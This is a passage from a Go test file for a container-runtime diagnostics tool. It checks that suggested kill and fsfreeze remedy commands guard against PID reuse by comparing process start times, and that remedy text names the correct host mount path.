		}
	}
	for _, want := range []string{"ContainerdHung CONT", "ContainerdHung USR1", "ShimHung CONT", "ShimHung KILL", "ExitEventLost KILL", "ProcessStopped " +
		"CONT", "ZombieLeaderNotKilled KILL", "HostPIDLeftover TERM"} {
		if !seen[want] {
			t.Errorf("no command of %s was looked at", want)
		}
	}
}

// signalling is the whole command of a phrase such as {terminate}.
func signalling(phrase string, pid int, start uint64) string {
	command, _ := new(diagnose.Doc).Value(phrase, &diagnose.Finding{Objects: diagnose.Objects{Process: &diagnose.Process{PID: pid, Start: start}}})
	return command
}

// said is all that a finding says: its message, what was seen, and what to do and what not.
func said(f *diagnose.Finding) string {
	return strings.Join(slices.Concat([]string{f.Message}, f.Seen, []string{f.Remedy, f.Danger, f.First, f.Avoid}), "\n")
}

// The guard tells a process from the one that had its PID before, whatever it is called.
func TestGuardComparesStartTimes(t *testing.T) {
	dir := t.TempDir()
	for _, comm := range []string{"sleep", "a) S 1 (b", "a) 1 (b", "x .*) //", " 0 4242424 x"} {
		program := filepath.Join(dir, comm[:1], strings.ReplaceAll(comm, "/", "_"))
		if err := os.MkdirAll(filepath.Dir(program), 0o755); err != nil {
			t.Fatal(err)
		}
		sleep, err := exec.LookPath("sleep")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(sleep, program); err != nil {
			t.Fatal(err)
		}
		c := exec.Command(program, "1000")
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		stat, err := os.ReadFile("/proc/" + strconv.Itoa(c.Process.Pid) + "/stat")
		if err != nil {
			t.Fatal(err)
		}
		start, err := strconv.ParseUint(strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))[22-3], 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		run := func(start uint64) string {
			f := diagnose.Finding{Objects: diagnose.Objects{Process: &diagnose.Process{PID: c.Process.Pid, Start: start, Comm: comm}}}
			remedy := runtime.HostPIDLeftover.Doc.Said(&f).Remedy
			command := signals.FindString(remedy)
			if command == "" {
				_ = c.Process.Kill()
				t.Fatalf("no command: %s", remedy)
			}
			out, err := exec.Command("bash", "-c", command).CombinedOutput()
			if err != nil {
				t.Errorf("%s: %v: %s", comm, err, out)
			}
			return string(out)
		}
		for _, other := range []uint64{start + 1, start * 10, start / 10, 1, 20, 100, 4096, 65536, 4242424, math.MaxUint64} {
			if out := run(other); out != "nothing done\n" {
				t.Errorf("%s: the command for another process: %q", comm, out)
			}
		}
		if out := run(start); out != "" {
			t.Errorf("%s: the command for this process: %q", comm, out)
			_ = c.Process.Kill()
		}
		_ = c.Wait()
	}
}

// commands finds what a person would paste: from a program's name to the end of what
// it is called with.
var commands = regexp.MustCompile(`\b(fsfreeze|echo|umount|kill|ctr|ps|systemctl|dmsetup|findmnt|nodeagent) [^.;:,]*.{0,60}`)

// Names that are only names do stand there.
func TestCommands(t *testing.T) {
	f := diagnose.Finding{Family: "FsFrozen", Objects: diagnose.Objects{
		Process: &diagnose.Process{PID: 7}, Thread: &diagnose.Thread{TID: 7},
		Mount: &diagnose.Mount{Device: "7:1", Point: "/data", HostPoint: "/var/lib/kubelet/pods/0b4d/volumes/kubernetes.io~csi/pvc-1/mount"},
	}}
	remedy := func() string { return kernel.UninterruptibleSleep.Doc.Said(&f).Remedy }
	if text := remedy(); !strings.Contains(text, "fsfreeze -u "+f.Objects.Mount.HostPoint+";") {
		t.Errorf("no command: %s", text)
	}
	f.Objects.Mount.HostPoint = ""
	if text := remedy(); !strings.Contains(text, "the number 7:1") || strings.Contains(text, "/data") {
		t.Errorf("the path of the container is for nobody: %s", text)
	}
}
